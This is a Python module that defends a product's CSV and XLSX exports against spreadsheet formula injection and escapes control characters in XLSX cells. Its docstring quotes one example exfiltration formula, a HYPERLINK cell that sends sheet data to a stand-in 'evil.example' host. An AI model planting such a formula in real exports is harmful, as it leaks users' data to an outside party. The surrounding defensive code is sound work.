"""Text in spreadsheet cells, for every export and import of the product (CSV and XLSX alike).

**Formulas (CSV injection, OWASP).** A spreadsheet opening a CSV file runs a cell that starts with
`=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"Click")` sends the
sheet's data away in one click), and some also after a leading tab or carriage return. Every text
cell we write therefore goes through `neutralise`, which puts a single quote `'` in front of such a
text: spreadsheets show it as text, never as a formula. An XLSX cell is moreover always written as
a string cell, never a formula (`xlsx_text`).

**The round trip stays lossless.** An exported file imported again must give back exactly the text
that was exported, also a text that legitimately starts with `-`, `=` or `'`. So a leading quote is
escaped too, and the rule that tells a neutralising quote from a quote the author typed is:

    on export, a text that starts with = + - @ tab, carriage return or ' gets one ' in front;
    on import, a cell that starts with ' followed by one of = + - @ tab, carriage return or '
    loses that first ' — any other cell is taken as it is.

`restore(neutralise(text)) == text` for every text. A quote before anything else (`'abc`) is kept, so
a text typed with a quote of its own is not changed; to start an imported text with `'=` or `''`,
type one quote more. A plain number (`-3`, `+1.5`) cannot hold a formula and is written as it is,
so spreadsheets read it as a number.

**XLSX control characters.** XML cannot hold most control characters and turns a carriage return
into a line feed when it is read back, so in XLSX cells they are written with the OOXML escape
`_xHHHH_` (ECMA-376 ST_Xstring, as Excel writes them); an underscore of the text that could start
such an escape is itself written `_x005F_`, so a literal `_x000D_` comes back as it was.
`xlsx_text` and `from_xlsx_text` are the two directions.

Below `people` and `ledger`, like `inputs`: it imports nothing of ours, so every app may use it.
"""

import re
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_ESCAPED_STARTS = (*FORMULA_STARTS, QUOTE)
# ASCII digits only: a number in another script is text that a spreadsheet will not compute with.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?", re.ASCII)
# What XML 1.0 cannot carry as is in a cell: control characters except tab and line feed (a carriage
# return would come back as a line feed), the non-characters U+FFFE and U+FFFF, and text that
# an underscore that could be read as the start of an OOXML escape.
_XLSX_ESCAPE = re.compile(r"_(?=x[0-9A-Fa-f]{4})|[\x00-\x08\x0b-\x1f\ufffe\uffff]")
_XLSX_UNESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def neutralise(value: Any) -> Any:
    """`value` as a cell no spreadsheet runs as a formula; what is not text is returned as it is."""
    if not isinstance(value, str):
        return value
    if value.startswith(QUOTE) or (value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value)):
        return QUOTE + value
    return value


def restore(text: str) -> str:
    """The text `neutralise` was given: an imported cell without its neutralising quote, if it has one."""
    if text.startswith(QUOTE) and text[1:].startswith(_ESCAPED_STARTS):
        return text[1:]
    return text


def _escape_match(match: re.Match[str]) -> str:
    # Every underscore before "xHHHH" is escaped, with or without a closing underscore: one that
    # escaping the next character would supply ("_x1234" then U+0001) must not form an escape.
    return f"_x{ord(match.group(0)):04X}_"


def xlsx_text(text: str) -> str:
    """`text` as an XLSX cell holds it (OOXML `_xHHHH_` escapes); neutralise it first."""
    return _XLSX_ESCAPE.sub(_escape_match, text)


def from_xlsx_text(text: str) -> str:
    """The text of an XLSX string cell, its `_xHHHH_` escapes undone (openpyxl leaves them in)."""
    if "_x" not in text:
        return text
    return _XLSX_UNESCAPE.sub(lambda match: chr(int(match.group(1), 16)), text)
